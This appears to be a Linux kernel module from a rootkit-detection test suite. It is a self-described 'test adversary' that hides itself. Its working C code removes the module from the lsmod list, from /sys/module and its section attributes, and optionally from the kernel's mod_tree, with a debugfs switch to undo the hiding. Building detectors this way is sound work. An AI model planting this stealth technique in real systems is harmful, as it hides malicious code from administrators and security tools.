// SPDX-License-Identifier: GPL-2.0
/*
 * A test adversary: a module that hides itself.
 * For throw-away guests only; see README.md.
 *
 * Technique: nearly every rootkit takes itself out of the list behind lsmod (Diamorphine,
 * Reptile); many out of /sys/module too, and Singularity clears its section attributes.  With
 * `tree` it leaves the tree that resolves addresses as well: then no list holds it any more.
 * As /sys/module/hide_module goes away, it is told when through debugfs.
 */
#include <linux/debugfs.h>
#include <linux/errno.h>
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>

static unsigned long tree;
module_param(tree, ulong, 0444);
MODULE_PARM_DESC(tree, "address of mod_tree, to leave it too");

static bool hidden;
static struct list_head *before;
static struct module_sect_attrs *sections;
static struct kobject *parent;
static struct dentry *switch_file;

static bool less(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return (unsigned long)a < (unsigned long)b;
}

static int compare(void *key, struct latch_tree_node *node)
{
	return 0;
}

/*
 * Where a node is inserted again must follow the kernel's own order, by address of the module's
 * memory: the node is inside struct module, which is in that memory.
 */
static const struct latch_tree_ops order = { .less = less, .comp = compare };

static void hide(void)
{
	before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	sections = THIS_MODULE->sect_attrs;
	THIS_MODULE->sect_attrs = NULL;
	parent = kobject_get(THIS_MODULE->mkobj.kobj.parent);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	if (tree)
		latch_tree_erase(&THIS_MODULE->core_layout.mtn.node,
				 (struct latch_tree_root *)tree, &order);
	hidden = true;
}

static void show(void)
{
	if (tree)
		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node,
				  (struct latch_tree_root *)tree, &order);
	if (kobject_add(&THIS_MODULE->mkobj.kobj, parent, "%s", THIS_MODULE->name))
		pr_warn("hide_module: not in /sys/module again\n");
	kobject_put(parent);
	THIS_MODULE->sect_attrs = sections;
	list_add_rcu(&THIS_MODULE->list, before);
	hidden = false;
}

static int set(void *unused, u64 wanted)
{
	if (!!wanted != hidden)
		wanted ? hide() : show();
	return 0;
}

DEFINE_DEBUGFS_ATTRIBUTE(switch_ops, NULL, set, "%llu\n");

static int __init hide_module_init(void)
{
	switch_file = debugfs_create_file_unsafe("hide_module", 0200, NULL, NULL, &switch_ops);
	return PTR_ERR_OR_ZERO(switch_file);
}

static void __exit hide_module_exit(void)
{
	debugfs_remove(switch_file);
}

module_init(hide_module_init);
module_exit(hide_module_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test adversary: hides itself");
